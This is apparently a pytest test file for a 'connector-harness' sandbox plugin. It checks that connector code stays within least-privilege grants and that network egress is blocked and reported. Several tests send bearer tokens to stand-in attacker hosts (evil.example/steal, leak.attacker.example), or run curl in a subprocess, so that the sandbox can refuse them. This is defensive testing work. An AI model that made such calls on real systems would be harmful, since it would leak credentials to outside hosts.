"""The live fixtures: `sandbox`, `binding`, `assert_least_privilege`, `assert_denied`, with
requests (through responses) and httpx (sync and async, through its transports)."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import PluginWorkspace

POLICY = """\
connectors:
  - name: bot
    owner: owner@example.com
    credential: {type: oauth2-client-credentials, lifetime: 1h}
    allowed_hosts: [api.svc.example]
roles:
  - name: reader
    grants: {svc: [svc.read]}
  - name: writer
    grants: {svc: [svc.write, svc.delete]}
bindings:
  - connector: bot
    env: prod
    roles: [reader]
  - connector: bot
    env: dev
    roles: [writer]
"""

OTHER_SERVICE = """\
service: other
hosts: [api.other.example]
scopes:
  other.read: {description: Read}
operations:
  - {id: things.list, method: GET, path: /things, requires: other.read}
"""

LIVE_TESTS = """
import asyncio
import socket
import subprocess
import urllib.request

import httpx
import pytest
import requests

ITEMS = "https://api.svc.example/items"


def test_binding_settings(binding):
    bot = binding("bot", env="prod")
    assert (bot.name, bot.connector, bot.env) == ("bot@prod", "bot", "prod")
    assert bot.headers == {"Authorization": f"Bearer {bot.token}"}
    assert bot.base_urls == {"other": "https://api.other.example", "svc": "https://api.svc.example"}
    assert bot.environ == {
        "HARNESS_TOKEN": bot.token,
        "HARNESS_BINDING": "bot@prod",
        "OTHER_BASE_URL": "https://api.other.example",
        "SVC_BASE_URL": "https://api.svc.example",
    }
    assert binding("bot@dev").name == "bot@dev"


def test_requests_allowed_and_denied(binding, assert_denied):
    bot = binding("bot", env="prod")
    listed = requests.get(bot.base_urls["svc"] + "/items", headers=bot.headers)
    assert listed.status_code == 200
    created = requests.post(ITEMS, json={"name": "x"}, headers=bot.headers)
    assert created.status_code == 403
    assert created.json()["error"] == "insufficient_scope"
    decision = assert_denied("POST", ITEMS)
    assert (decision.operation, decision.outcome) == ("items.create", "denied")
    assert assert_denied(operation="svc:items.create") == decision


def test_requests_without_token_is_denied(sandbox, assert_denied):
    response = requests.get(ITEMS)
    assert response.status_code == 401
    assert assert_denied("GET", ITEMS).outcome == "denied"


def test_httpx_sync(binding, sandbox):
    bot = binding("bot@dev")
    with httpx.Client(base_url=bot.base_urls["svc"], headers=bot.headers) as client:
        assert client.get("/items").status_code == 200
        assert client.delete("/items/i1").status_code == 200
    prod = binding("bot@prod")
    assert httpx.delete(ITEMS + "/i1", headers=prod.headers).status_code == 403
    outcomes = [(d.binding, d.operation, d.outcome) for d in sandbox.decisions]
    assert outcomes == [
        ("bot@dev", "items.list", "allowed"),
        ("bot@dev", "items.delete", "allowed"),
        ("bot@prod", "items.delete", "denied"),
    ]


def test_httpx_async(binding, assert_denied):
    bot = binding("bot@prod")

    async def flow():
        async with httpx.AsyncClient(headers=bot.headers) as client:
            listed = await client.get(ITEMS)
            created = await client.post(ITEMS, json={"name": "x"})
            return listed.status_code, created.status_code

    assert asyncio.run(flow()) == (200, 403)
    assert_denied("POST", ITEMS)


def test_unknown_host_requests(binding, assert_blocked):
    bot = binding("bot@prod")
    with pytest.raises(requests.ConnectionError, match="blocked a call to evil.example"):
        requests.get("https://evil.example/steal", headers=bot.headers)
    assert assert_blocked("evil.example", channel="host").path == "/steal"


def test_unknown_host_httpx(binding, assert_denied):
    bot = binding("bot@prod")
    with pytest.raises(httpx.ConnectError, match="blocked a call to evil.example"):
        httpx.get("https://evil.example/steal", headers=bot.headers)
    assert_denied("GET", "https://evil.example/steal")


def test_host_outside_allowlist(binding, assert_denied):
    bot = binding("bot@prod")
    with pytest.raises(requests.ConnectionError, match="api.other.example"):
        requests.get("https://api.other.example/things", headers=bot.headers)
    assert assert_denied("GET", "https://api.other.example/things").outcome == "blocked"


def test_raw_socket_is_refused(sandbox, assert_blocked):
    with pytest.raises(ConnectionError, match="203.0.113.9:80"):
        socket.create_connection(("203.0.113.9", 80), timeout=1)
    assert_blocked("203.0.113.9", channel="tcp")


def test_a_name_lookup_is_refused(sandbox, assert_blocked):
    # urllib is neither requests nor httpx: it must not even resolve the name
    with pytest.raises(Exception, match="blocked a DNS lookup of api.real-vendor.example"):
        urllib.request.urlopen("https://api.real-vendor.example/v1/me", timeout=1)
    assert socket.getaddrinfo("localhost", 80)  # loopback still resolves
    assert_blocked("api.real-vendor.example", channel="dns")


def test_least_privilege_holds(binding, assert_least_privilege):
    bot = binding("bot@prod")
    requests.get(ITEMS, headers=bot.headers)
    assert_least_privilege()


def test_unhandled_egress_fails(binding):
    bot = binding("bot@prod")
    requests.get("https://evil.example/steal", headers=bot.headers)


def test_least_privilege_fails_missing(binding, assert_least_privilege):
    bot = binding("bot@prod")
    requests.get(ITEMS, headers=bot.headers)
    requests.post(ITEMS, json={"name": "x"}, headers=bot.headers)
    assert_least_privilege()


def test_least_privilege_fails_excessive(binding, assert_least_privilege):
    bot = binding("bot@dev")
    requests.post(ITEMS, json={"name": "x"}, headers=bot.headers)
    assert_least_privilege()


def test_denied_fails_when_allowed(binding, assert_denied):
    bot = binding("bot@prod")
    requests.get(ITEMS, headers=bot.headers)
    assert_denied("GET", ITEMS)


def test_denied_fails_when_never_made(binding, assert_denied):
    binding("bot@prod")
    assert_denied("DELETE", ITEMS + "/i1")


def test_least_privilege_needs_a_binding(sandbox, assert_least_privilege):
    assert_least_privilege()


def test_swallowed_egress_fails(binding):
    bot = binding("bot@prod")
    requests.get(ITEMS, headers=bot.headers)
    try:
        subprocess.run(["curl", "-s", "https://api.real-vendor.example/v1/me"])
    except OSError:
        pass  # careless flow code: the test must not pass for it


def test_swallowed_egress_fails_least_privilege(binding, assert_least_privilege):
    bot = binding("bot@prod")
    requests.get(ITEMS, headers=bot.headers)
    try:
        socket.gethostbyname("leak.attacker.example")
    except OSError:
        pass
    assert_least_privilege()


def test_blocked_fails_when_never_made(sandbox, assert_blocked):
    assert_blocked("evil.example")
"""


@pytest.fixture
def live(pytester: pytest.Pytester, ws: PluginWorkspace) -> pytest.RunResult:
    ws.write({"bot.yaml": POLICY})
    (pytester.path / "mocks" / "other.yaml").write_text(OTHER_SERVICE, "utf-8")
    pytester.makepyfile(test_flow_code=LIVE_TESTS)
    return pytester.runpytest("test_flow_code.py", "-rA", "--tb=short")


def test_live_outcomes(live: pytest.RunResult, ws: PluginWorkspace) -> None:
    passed = [
        "test_binding_settings",
        "test_requests_allowed_and_denied",
        "test_requests_without_token_is_denied",
        "test_httpx_sync",
        "test_httpx_async",
        "test_unknown_host_requests",
        "test_unknown_host_httpx",
        "test_host_outside_allowlist",
        "test_raw_socket_is_refused",
        "test_a_name_lookup_is_refused",
        "test_least_privilege_holds",
    ]
    errored_at_teardown = ["test_swallowed_egress_fails"]
    failed = [
        "test_swallowed_egress_fails_least_privilege",
        "test_blocked_fails_when_never_made",
        "test_unhandled_egress_fails",
        "test_least_privilege_fails_missing",
        "test_least_privilege_fails_excessive",
        "test_denied_fails_when_allowed",
        "test_denied_fails_when_never_made",
        "test_least_privilege_needs_a_binding",
    ]
    assert ws.outcomes(live.outlines) == {
        *(("PASSED", f"test_flow_code.py::{name}") for name in passed + errored_at_teardown),
        *(("FAILED", f"test_flow_code.py::{name}") for name in failed),
        *(("ERROR", f"test_flow_code.py::{name}") for name in errored_at_teardown),
    }


def test_egress_the_test_swallowed_fails_it_naming_each_attempt(live: pytest.RunResult) -> None:
    live.stdout.fnmatch_lines(
        [
            "*_ ERROR at teardown of test_swallowed_egress_fails _*",
            "the test's code tried to leave the sandbox; each attempt was refused:",
            "  2. EXEC curl -> blocked (a child process (curl): the in-process sandbox"
            " cannot see what it sends; run it inside the network boundary (docs/security.md))",
            "if the test expects it, say so with assert_blocked(...) (or assert_denied(...))",
        ],
        consecutive=True,
    )
    live.stdout.fnmatch_lines(
        [
            "*_ test_swallowed_egress_fails_least_privilege _*",
            "E   AssertionError: least privilege does not hold:",
        ]
    )
    live.stdout.fnmatch_lines(  # in order, past the failures of the tests before it
        [
            "*_ test_swallowed_egress_fails_least_privilege _*",
            "E   binding bot@prod:",
            "E     egress            test_flow_code.py::test_swallowed_egress_fails_least_privilege"
            " step 2 (call 2)",
            "E                       blocked a DNS lookup of leak.attacker.example: the sandbox"
            " resolves no names; its services are reached through requests, httpx or its"
            " loopback servers",
            "E   calls made:",
        ]
    )
    live.stdout.fnmatch_lines(
        [
            "E   AssertionError: expected a blocked attempt to leave the sandbox matching"
            " evil.example, but none was made. Calls made:",
            "E     (no calls were made)",
        ],
        consecutive=True,
    )


def test_unhandled_egress_names_the_host(live: pytest.RunResult) -> None:
    live.stdout.fnmatch_lines(
        [
            "*_ test_unhandled_egress_fails _*",
            "E   requests.exceptions.ConnectionError: connector-harness sandbox blocked a call to"
            " evil.example: no mocked service answers on evil.example; the call was not sent",
        ]
    )


def test_assert_least_privilege_lists_findings_and_calls(
    live: pytest.RunResult, ws: PluginWorkspace
) -> None:
    reader = ws.line_of(POLICY, "grants: {svc: [svc.read]}")
    writer = ws.line_of(POLICY, "grants: {svc: [svc.write, svc.delete]}")
    live.stdout.fnmatch_lines(
        [
            "*_ test_least_privilege_fails_missing _*",
            "E   AssertionError: least privilege does not hold:",
        ]
    )
    live.stdout.fnmatch_lines(
        [
            "E   binding bot@prod:",
            "E     missing           test_flow_code.py::test_least_privilege_fails_missing"
            " step 2 (call 2)",
            "E                       svc:items.create was denied: it requires svc.write;"
            " grant svc.write",
            "E                       write instead:",
            f"E                         # role `reader` at scenarios/bot.yaml:{reader}:13",
            "E                         grants:",
            "E                           svc: [svc.write]",  # svc.write implies svc.read
            "E   calls made:",
            "E     1. GET api.svc.example/items -> allowed (svc:items.list: requires svc.read)",
            "E     2. POST api.svc.example/items -> denied"
            " (svc:items.create: requires svc.write; granted: svc.read)",
        ],
        consecutive=True,
    )
    live.stdout.fnmatch_lines(
        [
            "*_ test_least_privilege_fails_excessive _*",
            "E   AssertionError: least privilege does not hold:",
        ]
    )
    live.stdout.fnmatch_lines(
        [
            "E   binding bot@dev:",
            f"E     excessive         scenarios/bot.yaml:{writer}:31",
            "E                       `svc.delete` (role `writer`) is unused:"
            " no call of the binding's flows needed it",
            "E                       write instead:",
            f"E                         # role `writer` at scenarios/bot.yaml:{writer}:13",
            "E                         grants:",
            "E                           svc: [svc.write]",
            "E   calls made:",
            "E     1. POST api.svc.example/items -> allowed (svc:items.create: requires svc.write)",
        ],
        consecutive=True,
    )
    live.stdout.fnmatch_lines(
        [
            "E   AssertionError: assert_least_privilege: no binding was used;"
            " call binding(...) first",
        ]
    )


def test_assert_denied_lists_calls(live: pytest.RunResult) -> None:
    live.stdout.fnmatch_lines(
        [
            "E   AssertionError: expected a denied call matching GET"
            " https://api.svc.example/items, but it was allowed. Calls made:",
            "E     1. GET api.svc.example/items -> allowed (svc:items.list: requires svc.read)",
        ],
        consecutive=True,
    )
    live.stdout.fnmatch_lines(
        [
            "E   AssertionError: expected a denied call matching DELETE"
            " https://api.svc.example/items/i1, but it was never made. Calls made:",
            "E     (no calls were made)",
        ],
        consecutive=True,
    )


def test_sockets_are_restored_after_the_sandbox(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    """The guard lives only as long as the fixture: a loopback server still works inside,
    and `socket.socket.connect` is the original again afterwards."""
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(
        test_guard="""
        import socket

        ORIGINAL = socket.socket.connect

        def test_loopback_allowed(sandbox):
            assert socket.socket.connect is not ORIGINAL
            with socket.create_server(("127.0.0.1", 0)) as server:
                port = server.getsockname()[1]
                with socket.create_connection(("127.0.0.1", port), timeout=1):
                    pass

        def test_restored():
            assert socket.socket.connect is ORIGINAL
        """
    )
    result = pytester.runpytest()
    result.assert_outcomes(passed=2)


GRANTS_GIVEN = """
import requests

ITEMS = "https://api.svc.example/items"


def test_narrower_grants_given_are_what_is_judged(binding, assert_least_privilege):
    # bot@dev's role holds svc.write and svc.delete; the test gives it svc.write only
    bot = binding("bot@dev", grants={"svc": ["svc.write"]})
    assert requests.post(ITEMS, json={"name": "x"}, headers=bot.headers).status_code == 200
    assert_least_privilege()


def test_broader_grants_given_are_what_is_judged(binding, assert_least_privilege):
    bot = binding("bot@prod", grants={"svc": ["svc.read", "svc.delete"]})
    assert requests.get(ITEMS, headers=bot.headers).status_code == 200
    assert_least_privilege()
"""


def test_grants_given_to_a_binding_replace_its_roles_for_the_analysis_too(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(test_grants_given=GRANTS_GIVEN)
    result = pytester.runpytest("test_grants_given.py", "-rA", "--tb=short")
    assert ws.outcomes(result.outlines) == {
        ("PASSED", "test_grants_given.py::test_narrower_grants_given_are_what_is_judged"),
        ("FAILED", "test_grants_given.py::test_broader_grants_given_are_what_is_judged"),
    }
    result.stdout.fnmatch_lines(
        [
            "E   binding bot@prod:",
            "E     excessive         <binding(bot@prod, grants=...)>",
            "E                       `svc.delete` (role `binding(bot@prod, grants=...)`) is"
            " unused: no call of the binding's flows needed it",
            "E                       write instead:",
            "E                         # role `binding(bot@prod, grants=...)`"
            " at <binding(bot@prod, grants=...)>",
            "E                         grants:",
            "E                           svc: [svc.read]",
        ],
        consecutive=True,
    )
